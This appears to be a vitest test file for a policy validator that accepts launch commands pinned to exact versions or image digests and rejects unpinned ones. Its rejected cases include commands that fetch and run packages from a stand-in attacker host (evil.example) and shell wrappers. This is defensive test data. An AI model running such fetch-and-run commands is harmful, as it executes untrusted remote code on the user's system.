import { expect, test } from 'vitest';
import { Report } from '../report.ts';
import { checkCommand } from './upstream-command.ts';

const at = { file: 'policy.yaml', line: 1, column: 1 };

// What each of them starts is fixed by the text of the policy, or not.
test.each([
  [true, 'mail-server --stdio'],
  [true, 'node server.js'],
  [true, 'npx -y mail-server@1.2.3 /srv'],
  [true, 'npx -y @org/mail-server@1.2.3-beta.1'],
  [true, 'npx --package mail-server@1.2.3 mail'],
  [true, 'npx --package=mail-server@1.2.3 mail'],
  [true, 'npx --no-install mail-server'],
  [true, 'npm exec -- mail-server@1.2.3'],
  [true, 'uvx mail-server==1.2.3 --flag'],
  [true, 'uvx --from mail-server==1.2.3 mail'],
  [true, 'uvx --python 3.12 mail-server==1.2.3'],
  [true, 'uv tool run mail-server@1.2.3'],
  [true, 'pipx run --spec mail-server==1.2.3 mail'],
  [true, `docker run -i --rm -e A=b mail@sha256:${'0'.repeat(64)}`],
  [false, 'npx mail-server'],
  [false, 'npx mail-server@latest'],
  [false, 'npx mail-server@1'],
  [false, 'npx mail-server@^1.2.3'],
  [false, 'npx github:org/mail-server'],
  [false, 'npx https://evil.example/x.tgz'],
  [false, 'npx --package mail-server mail@1.2.3'],
  [false, 'npm exec mail-server'],
  [false, 'pnpm dlx mail-server'],
  [false, 'bunx mail-server'],
  [false, 'uvx mail-server'],
  [false, 'uvx mail-server>=1.2'],
  [false, 'uvx --from git+https://evil.example/x mail'],
  [false, 'docker run mail:1.2.3'],
  [false, 'bash -lc mail-server'],
  [false, '/bin/sh -c mail-server'],
])('%s: %s', (accepted, line) => {
  const [command = '', ...args] = line.split(' ');
  const report = new Report();
  checkCommand(
    { value: command, at },
    args.map((value) => ({ value, at })),
    report,
  );
  expect(report.hasErrors).toBe(!accepted);
});
